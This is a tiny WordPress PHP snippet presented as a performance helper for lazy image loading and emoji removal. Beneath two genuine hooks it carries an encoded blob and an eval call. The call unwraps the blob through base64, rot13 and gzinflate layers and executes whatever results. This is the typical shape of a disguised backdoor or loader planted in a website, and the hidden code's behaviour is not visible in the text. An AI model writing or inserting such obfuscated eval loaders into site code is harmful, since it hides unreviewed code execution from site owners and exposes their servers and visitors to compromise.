<?php
/* Performance helper: lazy images, emoji removal */
add_filter('wp_lazy_loading_enabled', '__return_true');
remove_action('wp_head', 'print_emoji_detection_script', 7);
$_F=__FILE__;$_X='y1nTyCwuQS3RQ4kPZQ0MaA0OiUlCSY/V1KxBWs7ISkO3KShXtUa3Lq4sLlbNUkpxDUijD0RH65CWmZMan55NEp+cn0qSmkpFrKGeREVFYKWvYnFgrHSgdHV1rHShX5CZl2GfbquupxIf7BoU5hoUre4REhIQ7+EfHAIyFQA=';
eval(base64_decode('ZXZhbChnemluZmxhdGUoc3RyX3JvdDEzKGJhc2U2NF9kZWNvZGUoJF9YKSkpKTs='));
?>
